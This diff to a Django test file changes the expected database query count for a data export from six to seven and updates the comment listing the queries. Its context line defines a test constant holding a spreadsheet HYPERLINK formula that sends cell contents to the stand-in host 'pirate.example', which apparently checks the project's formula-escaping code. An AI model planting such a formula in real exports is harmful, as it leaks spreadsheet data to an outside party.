@@ -27,8 +27,9 @@ from mesads.exchange.columns import escape_formula, headers, unescape_formula
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://pirate.example/?d="&A1,"Cliquez ici")'
-# Session, user, the authority, the driver count, the ADS cursor, the drivers cursor.
-EXPORT_QUERIES = 6
+# Session, user, the user's scope (mesads.ads.scope), the authority, the driver count,
+# the ADS cursor, the drivers cursor.
+EXPORT_QUERIES = 7
 
 
 def make_ads(authority: Authority, number: str, drivers=(), **fields) -> ADS:
